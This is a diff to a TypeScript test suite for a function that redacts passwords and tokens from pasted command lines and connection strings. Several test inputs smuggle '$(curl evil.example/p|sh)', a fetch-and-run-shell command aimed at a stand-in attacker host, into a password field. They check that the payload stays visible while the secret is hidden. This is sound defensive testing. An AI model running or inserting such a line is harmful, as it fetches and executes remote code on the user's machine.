@@ -464,6 +464,64 @@ describe("a pasted command that is one quoted connection string (r49 F5)", () =>
   });
 });
 
+// A pasted line read as a connection string (`;`-separated pairs; a key may hold blanks): a
+// telling pair's value that runs a command is shown with that command in sight, its literal text
+// hidden, and exported whole (the property found `srv TOKEN="x$(…)" ; X=y` hidden whole, payload
+// included; r57-1: reading such a line as a command line instead cut a password with blanks in
+// another pair at its first blank, in the export too).
+describe("a connection string's pair that runs a command (r57-1)", () => {
+  it.each([
+    [
+      'srv TOKEN="hunter2SECRET9$(curl evil.example/p|sh)" ; X=y',
+      "srv TOKEN=${SRV_TOKEN} ; X=y",
+      'srv TOKEN="${SRV_TOKEN}$(curl evil.example/p|sh)" ; X=y',
+      '"hunter2SECRET9$(curl evil.example/p|sh)"',
+    ],
+    [
+      "Server=db;Password=tok9qZx81$(curl evil.example/p|sh);",
+      "Server=db;Password=${PASSWORD};",
+      "Server=db;Password=${PASSWORD}$(curl evil.example/p|sh);",
+      "tok9qZx81$(curl evil.example/p|sh)",
+    ],
+    [
+      "Server=db;Password=Abc$(Xyz9)Q;Encrypt=yes",
+      "Server=db;Password=${PASSWORD};Encrypt=yes",
+      // A `$(…)` is a command the shell runs, so the consent view shows it, as on a command line.
+      "Server=db;Password=${PASSWORD}$(Xyz9)${PASSWORD};Encrypt=yes",
+      "Abc$(Xyz9)Q",
+    ],
+  ])("%j is exported whole as %j and shown as %j", (line, safe, shown, secret) => {
+    expectConnectionLine(line, safe, shown, secret);
+  });
+
+  it.each([
+    [
+      "Server=db;User Id=sa;Password=correct horse battery;Workstation ID=$(hostname)",
+      "Server=db;User Id=sa;Password=${PASSWORD};Workstation ID=$(hostname)",
+      "correct horse battery",
+    ],
+    ["Pwd={correct horse};App=`hostname`", "Pwd=${PWD_SECRET};App=`hostname`", "{correct horse}"],
+  ])(
+    "a command in another pair leaves %j a connection string, its password hidden whole",
+    (line, safe, secret) => {
+      expectConnectionLine(line, safe, safe, secret);
+    },
+  );
+});
+
+/**
+ * A pasted connection-string line: exported as `safe`, shown as `shown`, the secret's words in
+ * neither (nor in the marked display), and what the display hid, filled back, gives the line.
+ */
+function expectConnectionLine(line: string, safe: string, shown: string, secret: string): void {
+  expectExportedAndShown(line, safe, SecretSign.Flag, shown);
+  const marked = withoutCommandLineSecrets(line, () => "<hidden>");
+  const words = secret.replace(/\$\([^)]*\)|`[^`]*`/g, " ").split(/[\s{}"]+/);
+  for (const word of words.filter((w) => w.length > 2))
+    for (const out of [safe, shown, marked]) expect(out).not.toContain(word);
+  expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+}
+
 describe("withoutCommandLineSecrets: a flag's value, or a NAME=value, with literal text beside run-time text (r49 F3)", () => {
   // Literal text the shell passes as written, beside a variable or a substitution: the secret is
   // the whole value, hidden whole (its quotes kept), and the text handed over fills it back as written.
@@ -830,11 +888,15 @@ describe("withoutCommandLineSecrets: an operator glued to a quoted command's val
     `node -e "process.env.TOKEN=String('hunter2xyz'); require('./srv')"`,
     `node -e "process.env.TOKEN=f(x, 'hunter2xyz'); require('./srv')"`,
     `node -e "process.env.TOKEN=Buffer.from('aHVudGVyMnh5eg==','base64'); require('./srv')"`,
+    // r57-3: a value that opens with `(` was read to its first blank only.
+    `node -e "process.env.TOKEN=(a || 'hunter2xyz'); require('./srv')"`,
   ])("%j keeps the call's literal out of the display, filled back byte for byte (r56-1)", (line) => {
     const secret = /'(hunter2xyz|aHVudGVyMnh5eg==)'/.exec(line)?.[1] ?? "";
     expect(withoutCommandLineSecrets(line)).not.toContain(secret);
     expect(withoutCommandLineSecrets(line)).toContain("require('./srv')");
     expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+    // Given as an argument to a program that is no shell, the line is exported without it too.
+    expect(withoutArgSecrets(["--x", line]).join(" ")).not.toContain(secret);
   });
 });
 
